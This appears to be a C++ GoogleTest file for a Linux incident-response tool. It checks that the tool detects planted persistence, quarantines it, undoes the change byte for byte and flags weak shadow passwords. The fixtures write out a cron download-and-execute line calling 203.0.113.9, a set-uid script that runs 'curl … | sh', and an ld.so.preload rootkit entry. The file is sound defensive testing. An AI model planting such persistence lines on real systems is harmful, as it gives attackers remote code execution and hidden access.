// respond --apply and --undo on the Linux lab scenario: a triaged root with a downloader in cron, a preload rootkit
// and a dropped set-uid script; after --apply a new triage finds no persistence, and --undo puts back every file
// byte for byte with its owner, mode, times and extended attributes.
#include <gtest/gtest.h>
#include <crypt.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include <filesystem>
#include <map>
#include <set>

#include <nlohmann/json.hpp>

#include "casedb/case_db.h"
#include "support/test_support.h"

namespace msw {
namespace {
namespace fs = std::filesystem;

test::RunResult ms(std::vector<std::string> args, const fs::path& cwd = {}) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args, cwd);
}

struct Snapshot {
  std::string content;
  mode_t mode;
  uid_t uid;
  int64_t mtime_ns;
  std::string xattr;
  bool operator==(const Snapshot&) const = default;
};

std::map<std::string, Snapshot> snapshot(const fs::path& root) {
  std::map<std::string, Snapshot> out;
  for (const auto& e : fs::recursive_directory_iterator(root)) {
    if (!e.is_regular_file()) continue;
    struct stat st {};
    ::lstat(e.path().c_str(), &st);
    char value[64] = {};
    const ssize_t n = ::getxattr(e.path().c_str(), "user.minesweep", value, sizeof value);
    out[e.path().string()] = {test::read_file(e.path()), st.st_mode, st.st_uid,
                              static_cast<int64_t>(st.st_mtim.tv_sec) * 1000000000 + st.st_mtim.tv_nsec,
                              n > 0 ? std::string(value, static_cast<size_t>(n)) : ""};
  }
  return out;
}

std::set<std::string> rules(const fs::path& report) {
  std::set<std::string> out;
  const auto json = nlohmann::json::parse(test::read_file(report));  // kept alive for the loop
  for (const auto& f : json["findings"]) out.insert(f["rule_id"].get<std::string>());
  return out;
}

TEST(Respond, ApplyCleansTheLabAndUndoRestoresIt) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  test::write_file(root / "etc/hosts", "127.0.0.1 localhost\n");
  test::write_file(root / "var/spool/cron/crontabs/root",
                   "# m h dom mon dow command\n*/30 * * * * (curl -fsSL http://203.0.113.9/pm.sh||wget -q -O- http://203.0.113.9/pm.sh)|sh\n");
  test::write_file(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  test::write_file(root / "usr/local/lib/libprocesshider.so", std::string("\x7f" "ELF fake rootkit"));
  const fs::path dropped = root / "tmp/.x.sh";
  test::write_file(dropped, "#!/bin/sh\ncurl http://203.0.113.9/y|sh\n");
  ::chmod(dropped.c_str(), 04755);
  const timespec times[2] = {{1577934245, 123456789}, {1577934245, 123456789}};
  ::utimensat(AT_FDCWD, dropped.c_str(), times, 0);
  const bool xattrs = ::setxattr(dropped.c_str(), "user.minesweep", "kept", 4, 0) == 0;  // not every file system
  const auto before = snapshot(root);

  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  const auto found = rules(dir / "out/report.json");
  EXPECT_TRUE(found.count("heuristic.cron_download_exec"));
  EXPECT_TRUE(found.count("heuristic.ld_so_preload"));

  // Without --yes and without a "yes" on stdin nothing happens.
  EXPECT_EQ(ms({"respond", (dir / "out/case.sqlite").string(), "--apply", "--root", root.string(), "--quarantine",
                (dir / "q0").string()}).exit_code, 2);
  EXPECT_EQ(snapshot(root), before);

  auto apply = ms({"respond", (dir / "out/case.sqlite").string(), "--apply", "--yes", "--root", root.string(),
                   "--quarantine", (dir / "q").string()});
  ASSERT_EQ(apply.exit_code, 0) << apply.out << apply.err;
  EXPECT_FALSE(fs::exists(dropped));
  EXPECT_FALSE(fs::exists(root / "etc/ld.so.preload"));
  EXPECT_NE(test::read_file(root / "var/spool/cron/crontabs/root").find("# removed by minesweep: */30"), std::string::npos);
  // The quarantined bytes are not the file: nothing there can run or be found by a scanner as the original.
  for (const auto& e : fs::directory_iterator(dir / "q"))
    if (e.path().extension() == ".q") {
      EXPECT_EQ(test::read_file(e.path()).find("curl http://203.0.113.9"), std::string::npos);
      EXPECT_EQ(fs::status(e.path()).permissions() & fs::perms::all, fs::perms::owner_read);
    }
  // The evidence bundle was not touched; the case records every step and where to undo it.
  EXPECT_TRUE(fs::exists(dir / "out/case.sqlite"));
  auto db = casedb::CaseDb::open((dir / "out/case.sqlite").string(), true);
  ASSERT_TRUE(db);
  auto steps = db->remediation();
  ASSERT_TRUE(steps);
  size_t done = 0;
  for (const auto& st : *steps) {
    done += st.status == "done";
    EXPECT_EQ(st.journal, (dir / "q/journal.jsonl").string());
  }
  EXPECT_EQ(done, 4u);  // a cron line and three files

  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "again").string()}).exit_code, 0)
      << "persistence left after --apply: " << test::read_file(dir / "again/report.json");

  auto undo = ms({"respond", "--undo", (dir / "q/journal.jsonl").string()});
  EXPECT_EQ(undo.exit_code, 0) << undo.out;
  const auto after = snapshot(root);
  EXPECT_EQ(after, before);
  if (xattrs) {
    EXPECT_EQ(after.at(dropped.string()).xattr, "kept");
  }
}

TEST(Respond, ApplyRefusesTargetsInTheEvidence) {
  test::TempDir dir;
  // Scanning a copied tree: the plan's targets are the evidence copies, which --apply must not touch.
  test::write_file(dir / "copy/tmp/.x.sh", "#!/bin/sh\ncurl http://203.0.113.9/y|sh\n");
  test::write_file(dir / "copy/var/spool/cron/crontabs/root", "* * * * * curl -fsSL http://203.0.113.9/pm.sh|sh\n");
  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "copy").string()}).exit_code, 1);
  auto apply = ms({"respond", (dir / "case.sqlite").string(), "--apply", "--yes", "--root", "/", "--quarantine",
                   (dir / "q").string()});
  EXPECT_NE(apply.out.find("[refused]"), std::string::npos) << apply.out;
  EXPECT_TRUE(fs::exists(dir / "copy/var/spool/cron/crontabs/root"));
  EXPECT_EQ(test::read_file(dir / "copy/var/spool/cron/crontabs/root"), "* * * * * curl -fsSL http://203.0.113.9/pm.sh|sh\n");
}

// The baseline's weak-password check on Linux: hashes in /etc/shadow tried against the guessing lists at collection
// (the password itself is never stored), then a finding and a lock step in the plan.
TEST(Respond, WeakShadowPasswordsAreFoundAndLocked) {
  test::TempDir dir;
  const fs::path root = dir / "root";
  crypt_data data{};
  const std::string weak = ::crypt_r("admin123", "$6$minesweep$", &data);
  const std::string named = ::crypt_r("deploy2025", "$5$minesweep$", &data);
  const std::string strong = ::crypt_r("c0rrect-h0rse-battery-staple", "$6$minesweep$", &data);
  test::write_file(root / "etc/passwd",
                   "root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n"
                   "deploy:x:1001:1001::/home/deploy:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n");
  test::write_file(root / "etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup.sh\n");
  fs::permissions(root / "etc/cron.d/backup", fs::perms::others_write, fs::perm_options::add);
  test::write_file(root / "etc/ssh/sshd_config", "# comment\nPermitRootLogin yes\nPasswordAuthentication no\nMatch User backup\n  PasswordAuthentication yes\n");
  test::write_file(root / "etc/shadow", "root:" + strong + ":19000:0:99999:7:::\nops:" + weak + ":19000:0:99999:7:::\ndeploy:" +
                                            named + ":19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n");
  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
  const auto report = nlohmann::json::parse(test::read_file(dir / "out/report.json"));
  std::set<std::string> weak_users;
  for (const auto& f : report["findings"])
    if (f["rule_id"] == "heuristic.suspicious_account" && f["title_en"].get<std::string>().find("guessing lists") != std::string::npos)
      weak_users.insert(f["observables"][0]["value"].get<std::string>());
  EXPECT_EQ(weak_users, (std::set<std::string>{"ops", "deploy"}));
  EXPECT_EQ(test::read_file(dir / "out/bundle/tables/accounts.jsonl").find("admin123"), std::string::npos);
  bool lock = false;
  for (const auto& p : report["plan"]) lock = lock || (p["kind"] == "rotate_credentials" && p["target"] == "ops");
  EXPECT_TRUE(lock);
  // ...and the hardening baseline says so, with the SSH settings collected beside them.
  auto b = ms({"baseline", (dir / "out/case.sqlite").string(), "--json"});
  EXPECT_EQ(b.exit_code, 1) << b.err;
  std::map<std::string, std::string> status;
  const auto checks = nlohmann::json::parse(b.out);
  for (const auto& c : checks["checks"]) status[c["id"].get<std::string>()] = c["status"].get<std::string>();
  EXPECT_EQ(status["LNX-PASSWORDS"], "fail");
  EXPECT_EQ(status["LNX-SSH-ROOT"], "fail");
  EXPECT_EQ(status["LNX-SSH-PASSWORD"], "pass");
  EXPECT_EQ(status["LNX-WRITABLE-PERSISTENCE"], "fail");  // /etc/cron.d/backup is world-writable
  auto script = ms({"respond", (dir / "out/case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()});
  ASSERT_EQ(script.exit_code, 0);
  EXPECT_NE(test::read_file(dir / "r.sh").find("PermitRootLogin prohibit-password"), std::string::npos);
  EXPECT_EQ(test::run({"/bin/bash", "-n", (dir / "r.sh").string()}).exit_code, 0);
  EXPECT_EQ(status.count("WIN-SMB1"), 0u);
}

}  // namespace
}  // namespace msw
